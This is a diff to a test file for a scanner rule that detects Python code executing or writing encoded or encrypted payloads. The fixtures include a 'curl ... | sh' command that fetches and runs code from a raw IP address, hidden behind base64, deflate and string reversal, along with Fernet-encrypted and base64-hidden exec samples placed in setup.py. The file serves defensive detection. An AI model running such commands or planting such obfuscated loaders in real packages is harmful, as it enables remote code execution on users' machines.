@@ -1,10 +1,18 @@
 import { ruleTest } from '../../testing/rule-tester.js';
+import { createCipheriv, randomBytes } from 'node:crypto';
 import { deflateSync } from 'node:zlib';
 import rule from './py-exec-encoded-payload.js';
 
 const b64 = (s: string) => Buffer.from(s).toString('base64');
 const inner = `import os\nos.system("curl -s http://45.61.1.2:1244/p | sh")\n`;
 const packed = deflateSync(Buffer.from(b64(inner))).toString('base64').split('').reverse().join('');
+
+// A Fernet token built the way cryptography.fernet does (HMAC left zero: the decoder does not need it).
+const fkey = Buffer.alloc(32, 7);
+const iv = randomBytes(16);
+const c = createCipheriv('aes-128-cbc', fkey.subarray(16), iv);
+const ct = Buffer.concat([c.update('import os; os.system("id")'), c.final()]);
+const token = Buffer.concat([Buffer.from([0x80]), Buffer.alloc(8), iv, ct, Buffer.alloc(32)]).toString('base64url');
 
 ruleTest(rule, {
   clean: [
@@ -13,6 +21,7 @@ ruleTest(rule, {
     { name: 'email library base64 without exec', file: 'email/encoders.py', code: `from base64 import encodebytes as _bencode\ndef encode_base64(msg):\n    orig = msg.get_payload(decode=True)\n    encdata = str(_bencode(orig), 'ascii')\n    msg.set_payload(encdata)\n` },
     { name: 'pickle/json loads not executed', file: 'a.py', code: `import json, base64\ndata = json.loads(base64.b64decode(s))\n` },
     { name: 'eval of a literal expression', file: 'b.py', code: `x = eval("1 + 2")\n` },
+    { name: 'base64 image asset written to disk', file: 'assets.py', code: `import base64\nICON = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="\nwith open("icon.png", "wb") as f:\n    f.write(base64.b64decode(ICON))\n` },
   ],
   flagged: [
     {
@@ -53,6 +62,18 @@ ruleTest(rule, {
       file: 'main.py',
       code: `from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52')\n`,
       findings: [{ line: 1, severity: 'high' }],
+    },
+    {
+      name: 'Fernet-encrypted payload with the key beside it',
+      file: 'setup.py',
+      code: `from cryptography.fernet import Fernet\nexec(Fernet(b'${fkey.toString('base64url')}').decrypt(b'${token}'))\n`,
+      findings: [{ line: 2, decoded: 'import os; os.system("id")', message: /fernet/ }],
+    },
+    {
+      name: 'decoded code written to disk through a helper',
+      file: 'setup.py',
+      code: `from base64 import b64decode\ndef b64(code):\n    return b64decode(code.encode('utf8')).decode('utf8')\nwith open(path, 'w') as f:\n    f.write(b64('${Buffer.from('import subprocess\nsubprocess.Popen("x")').toString('base64')}'))\n`,
+      findings: [{ line: 5, message: /Writes code hidden by base64 to a file/, decoded: /^import subprocess/ }],
     },
   ],
 });
